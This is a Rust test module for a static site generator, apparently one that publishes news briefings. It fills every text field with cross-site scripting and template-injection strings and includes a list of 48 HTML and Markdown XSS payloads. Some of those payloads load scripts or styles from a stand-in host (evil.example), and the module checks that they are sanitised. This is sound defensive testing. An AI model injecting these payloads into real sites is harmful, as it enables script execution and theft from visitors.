//! Sites in which every place for words holds an attack.

use std::collections::BTreeSet;

use super::{NOW, Site};

/// Attacks for every field. Each has a mark of its own, which must be on some page as text.
const ATTACK: &str = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>{{7*1191}}";

/// Creates attacks, and records the field of each.
#[derive(Default)]
pub struct Attacks(pub Vec<&'static str>);

impl Attacks {
    /// As a TOML string.
    fn on(&mut self, field: &'static str) -> String {
        self.0.push(field);
        toml::Value::String(format!("mark{}m {ATTACK}", self.0.len())).to_string()
    }
}

/// A site in which every text of the content model is an attack.
pub fn attacked(attacks: &mut Attacks, policy: &str) -> Site {
    let site = Site::empty();
    let mut on = |field| attacks.on(field);
    site.write(&format!(
        "-- site.toml --
title = {}
contact = {}
licence = {}
languages = [\"en\", \"ar\"]
language = \"en\"
html = \"{policy}\"
base_url = \"https://example.org/\"
[parties]
one = {}
-- content/index.md --
+++
title = {}
summary = {}
+++
-- content/page.md --
+++
title = {}
summary = {}
+++
",
        on("site title"),
        on("site contact"),
        on("site licence"),
        on("party"),
        on("home title"),
        on("home summary"),
        on("page title"),
        on("page summary"),
    ));
    site.write(&format!(
        "-- content/briefings/a.md --
+++
title = {}
date = 2031-05-01
updated = 2031-05-02
summary = {}
authors = [{}]
neighbourhoods = [{}, \"place\"]
sources = [{}]
not_known = [{}]
not_reached = [{}]
withheld = [{}]
[extra]
free = \"<script>alert(1)</script>\"
[[claims]]
id = \"c\"
text = {}
source = {}
via = [{}]
neighbourhoods = [{}]
event = \"event\"
status = \"confirmed\"
status_why = {}
figure = {{ measure = {}, said = {}, min = 1, who = {} }}
evidence = [{{ url = \"https://example.org/?a=1&b=%22%3E%3Cscript%3E\" }}]
[[claims]]
text = {}
source = \"party-source\"
[[corrections]]
at = 2031-05-02
kind = \"correction\"
serious = true
claim = \"c\"
was = {}
now = {}
why = {}
+++
",
        on("briefing title"),
        on("summary"),
        on("author"),
        on("new neighbourhood"),
        on("new source"),
        on("not_known"),
        on("not_reached"),
        on("withheld"),
        on("claim text"),
        on("claim source"),
        on("claim via"),
        on("claim neighbourhood"),
        on("status_why"),
        on("figure measure"),
        on("figure said"),
        on("figure who"),
        on("claim of a party"),
        on("correction was"),
        on("correction now"),
        on("correction why"),
    ));
    site.write(&format!(
        "-- content/briefings/a.ar.md --
+++
title = {}
summary = {}
not_known = [{}]
[claim_text]
c = {}
+++
-- content/briefings/gone.md --
+++
title = {}
date = 2031-05-01
withdrawn = {{ at = 2031-05-02, why = {} }}
+++
-- content/neighbourhoods/place.md --
+++
title = {}
summary = {}
names = {{ ar = {} }}
spellings = [{}]
parent = \"whole\"
codes = {{ pcode = {} }}
+++
-- content/neighbourhoods/whole.md --
+++
title = {}
+++
-- content/sources/party-source.md --
+++
title = {}
summary = {}
short = {}
names = {{ ar = {} }}
spellings = [{}]
owner = {}
party = \"one\"
+++
-- content/sources/hidden.md --
+++
title = \"never\"
protected = true
label = {}
+++
-- content/briefings/b.md --
+++
title = \"b\"
date = 2031-05-01
[[claims]]
text = \"t\"
source = \"hidden\"
+++
-- content/events/event.md --
+++
title = {}
summary = {}
+++
",
        on("translated title"),
        on("translated summary"),
        on("translated not_known"),
        on("translated claim"),
        on("withdrawn title"),
        on("withdrawn why"),
        on("neighbourhood title"),
        on("neighbourhood summary"),
        on("neighbourhood name"),
        on("neighbourhood spelling"),
        on("code"),
        on("parent title"),
        on("source title"),
        on("source summary"),
        on("source short"),
        on("source name"),
        on("source spelling"),
        on("source owner"),
        on("protected label"),
        on("event title"),
        on("event summary"),
    ));
    site
}

const MARKDOWN_ATTACKS: [&str; 48] = [
    "<script>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://example.org/\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
    "<b id=\"claim-a\">x</b> <b id=\"page-claims\">y</b> <a name=\"page-main\">z</a>",
    "<math><mtext></p><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--bulletin-preview--><script>alert(1)</script><!--/bulletin-preview-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<JAVASCRIPT:alert(1)>)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](//evil.example/x)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "## <script>alert(1)</script> page claims",
    "## page-main\n\n## claim-a\n\n## fn-1",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "> [!NOTE]\n> {{7*1191}} {% include \"base.html\" %} <script>alert(1)</script>",
];

/// A site with a briefing for each attack in Markdown, built without those that are refused.
pub fn with_markdown_attacks(policy: &str) -> Site {
    let site = Site::new(&format!("-- site.toml --\ntitle = \"T\"\nhtml = \"{policy}\"\n"));
    for (number, text) in MARKDOWN_ATTACKS.iter().enumerate() {
        site.write(&format!(
            "-- content/briefings/b{number}.md --\n+++\ntitle = \"B{number}\"\ndate = 2031-05-01\n[[claims]]\nid = \"a\"\ntext = \"A\"\nsource = \"S\"\n+++\n{text}\n"
        ));
    }
    let run = site.run(&["check", "--now", NOW, "--format", "short"]);
    let refused: BTreeSet<&str> = run
        .stdout
        .lines()
        .filter(|line| line.contains(": error["))
        .filter_map(|line| line.split(':').next())
        .collect();
    assert!(refused.len() < MARKDOWN_ATTACKS.len() / 2, "most is shown as text, or sanitised:\n{run}");
    for path in refused {
        site.remove(path);
    }
    site.build();
    site
}
